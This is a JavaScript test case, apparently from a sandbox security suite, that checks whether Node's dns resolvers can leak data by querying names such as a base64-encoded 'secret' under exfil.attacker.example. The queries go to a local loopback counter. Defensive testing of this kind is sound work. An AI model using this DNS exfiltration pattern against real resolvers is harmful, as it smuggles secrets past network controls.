// Row 16: DNS exfiltration: the query itself leaks data, even if no connection follows.
// The resolver is pointed at a loopback UDP server that counts queries (and answers NXDOMAIN).
import { defineAttack } from '../helpers/attack.js';

defineAttack({
  row: 16,
  title: 'dns.resolve* / Resolver / dns.promises',
  policy: 'network',
  code: `
    const dns = require('dns');
    const nx = (e) => { if (e && (e.code === 'ENOTFOUND' || e.code === 'ENODATA')) return; throw e; };
    dns.setServers(['127.0.0.1:' + ctx.udpPort]);
    const r = new dns.Resolver({ timeout: 1000, tries: 1 });
    r.setServers(['127.0.0.1:' + ctx.udpPort]);
    const pr = new dns.promises.Resolver({ timeout: 1000, tries: 1 });
    pr.setServers(['127.0.0.1:' + ctx.udpPort]);
    return {
      resolveTxt: await t(() => cb((k) => dns.resolveTxt('c2VjcmV0.exfil.attacker.example', k)).catch(nx)),
      resolverResolve4: await t(() => cb((k) => r.resolve4('a.exfil.attacker.example', k)).catch(nx)),
      promisesResolver: await t(() => pr.resolveTxt('b.exfil.attacker.example').catch(nx)),
      promisesModule: await t(() => dns.promises.resolve4('d.exfil.attacker.example').catch(nx)),
    };
  `,
  effect: (_ctx, c) => c.udp >= 4,
});
